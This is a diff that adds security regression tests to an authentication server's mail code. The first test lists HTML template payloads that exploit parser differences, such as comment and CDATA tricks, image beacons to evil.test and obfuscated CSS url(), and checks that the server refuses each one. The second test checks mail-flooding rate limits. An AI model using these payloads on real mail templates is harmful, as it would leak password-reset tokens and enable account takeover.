@@ -13,7 +13,14 @@ from sqlalchemy import create_engine
 
 from roost import AsyncClient, AuthenticationError, ValidationError
 from roost.backends.sql.tables import mail_messages, mail_templates, utcnow
-from tests.conftest import ADMIN_PASSWORD, ADMIN_USERNAME, RunningServer, unique
+from tests.conftest import (
+    ADMIN_PASSWORD,
+    ADMIN_USERNAME,
+    REDIS_URL,
+    RunningServer,
+    require_redis,
+    unique,
+)
 from tests.inbox import mail_inbox
 from tests.smtp_relay import Relay, smtp_relay
 
@@ -173,3 +180,81 @@ async def test_what_an_older_server_kept_does_not_leak_a_token(
     [delivered] = relay.texts()  # the built-in wording, not the template that builds a link
     assert "evil" not in delivered
     assert "https://app.example.com/auth/reset_password?token=rpr_" in delivered
+
+
+@BACKENDS
+async def test_markup_that_parsers_read_differently_cannot_steer_the_link(
+    make_server: Callable[..., RunningServer], relay: Relay, backend: str
+) -> None:
+    """Python's html.parser reads `<!-->` as the start of a comment, a mail client's HTML5
+    parser as a whole (empty) one: to the client the link stood inside `<img src>`."""
+    running = make_server(
+        backend, admin_email=ADMIN_EMAIL, auth_link_url=LINK_URL, smtp_url=relay.url
+    )
+    link = '<a href="{{ link }}">Reset</a>'
+    attacks = [
+        "<p>Hello {{ name }}</p><!--><img src='https://evil.test/log?-->" + link + "'>",
+        "<!---><img src='https://evil.test/log?-->" + link + "'>",
+        "<![CDATA[<img src='https://evil.test/log?]]>" + link + "'>",
+        "<?php <img src='https://evil.test/log? ?>" + link + "'>",
+        "</ x><img src='https://evil.test/log?>" + link + "'>",
+        "<style>a{}</style>" + link,
+        "<textarea>" + link + "</textarea>",
+        '<svg><a href="{{ link }}">Reset</a></svg>',
+        '<p title="x>y">' + link + "</p>",
+        '<p title="x<y">' + link + "</p>",
+        "<a href={{ link }}>Reset</a>",
+        '<img src="https://evil.test/pixel">' + link,
+        '<table background="https://evil.test/">' + link + "</table>",
+        '<a href="{{ link }}" style="background:u&#114;l(https://evil.test/)">Reset</a>',
+        '<a href="https://evil.test/" href="{{ link }}">Reset</a>',
+    ]
+    async with AsyncClient(api_url=running.url, max_retries=0) as client:
+        mail_admin = (await _key_holder(client, ["mail:admin", "mail:read"])).mail
+        for markup in attacks:
+            for alias in ("password_reset", "email_verification"):
+                with pytest.raises(ValidationError) as caught:
+                    await mail_admin.templates.put(alias, "Reset", "{{ link }}\n", markup)
+                refused = (caught.value.status_code, caught.value.code, caught.value.details)
+                assert refused == (400, "link_misplaced", {"field": "html"}), markup
+        await client.auth.request_password_reset(ADMIN_EMAIL)
+    [message] = relay.received  # the built-in wording: no template was saved
+    assert "evil" not in str(message.get_body(("plain",)).get_content())
+
+
+def _mail_server(make_server: Callable[..., RunningServer], limiter: str, relay: Relay) -> str:
+    """A server delivering to `relay`, its mail limits in this process or in Redis (where the
+    hourly count of mails from 127.0.0.1 that earlier runs left is cleared first)."""
+    if limiter == "memory":
+        return make_server(smtp_url=relay.url, mails_per_client=30).url
+    require_redis()
+    import redis
+
+    with redis.Redis.from_url(REDIS_URL) as store:
+        store.delete("roost:limit:mail-from:127.0.0.1")
+    return make_server(redis_url=REDIS_URL, smtp_url=relay.url, mails_per_client=30).url
+
+
+@pytest.mark.parametrize("limiter", ["memory", "redis"])
+async def test_sign_up_and_email_changes_cannot_flood_a_mailbox(
+    make_server: Callable[..., RunningServer], relay: Relay, limiter: str
+) -> None:
+    """Each sign-up and email change mailed a verification link, and each sign-up with a taken
+    address a notice, with no limit: anyone could send the victim (or anyone) mail at will."""
+    url = _mail_server(make_server, limiter, relay)
+    victim, mine = f"{unique('victim')}@example.com", f"{unique('me')}@evil.test"
+    async with AsyncClient(api_url=url, max_retries=0) as client:
+        name = unique("mallory")
+        await client.auth.register(name, "mallory-password-1", email=victim, first_name="BUY")
+        for _ in range(7):  # sign-ups with the taken address: the owner's notices
+            await client.auth.register(unique("again"), "mallory-password-1", email=victim)
+        # the first sign-up's link, then 5 notices
+        assert [m["To"] for m in relay.received] == [victim] * 6
+        mallory = await client.auth.sign_in_with_password(name, "mallory-password-1")
+        for n in range(12):  # flip the address back and forth: 5 links to each at most
+            await mallory.auth.update_profile(email=mine if n % 2 else f"x{victim}")
+        assert sum(m["To"] == f"x{victim}" for m in relay.received) == 5
+        for n in range(40):  # every change still happens, but at most 30 mails an hour go
+            changed = await mallory.auth.update_profile(email=f"{n}{victim}")
+            assert changed["email"] == f"{n}{victim}"
+    assert len(relay.received) == 30
